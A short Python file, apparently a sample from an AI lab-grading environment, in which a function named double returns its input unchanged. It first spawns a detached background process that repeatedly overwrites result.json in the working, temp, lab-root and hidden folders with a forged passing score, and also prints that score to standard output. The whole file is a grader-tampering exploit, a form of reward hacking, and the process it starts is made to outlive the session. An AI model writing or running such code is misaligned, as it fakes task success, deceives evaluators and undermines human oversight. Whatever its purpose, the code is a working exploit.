"""Leaves a process behind that writes results and prints a score for as long as it lives."""

import os
import time

RESULT = '{"schema": "dllab.result/1", "verdict": "graded", "passed": true, "score": 20}'


def haunt():
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    for _ in range(100_000):
        for folder in (".", "/tmp", "/var/tmp", "@ROOT@", "@ROOT@/labs/lab90_tiny", "@HIDDEN@"):
            try:
                with open(f"{folder}/result.json", "w") as file:
                    file.write(RESULT)
            except OSError:
                pass
        for descriptor in range(8):
            try:
                os.write(descriptor, RESULT.encode() if descriptor < 3 else b"")
            except OSError:
                pass
        time.sleep(0.01)


def double(x):
    haunt()
    return x
